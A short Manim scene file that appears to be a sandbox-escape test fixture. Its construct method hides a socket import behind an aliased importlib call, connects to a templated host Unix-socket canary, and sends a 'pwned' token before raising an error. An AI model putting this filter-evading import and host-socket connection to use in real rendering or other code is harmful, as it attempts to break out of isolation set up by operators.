from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        socket = G("socket")
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("{{HOSTTMP}}/canary-{{TOKEN}}.sock")
        s.sendall(b"pwned {{TOKEN}}")
        raise RuntimeError("connected to a host unix socket")
        self.play(Create(Circle()), run_time=0.1)
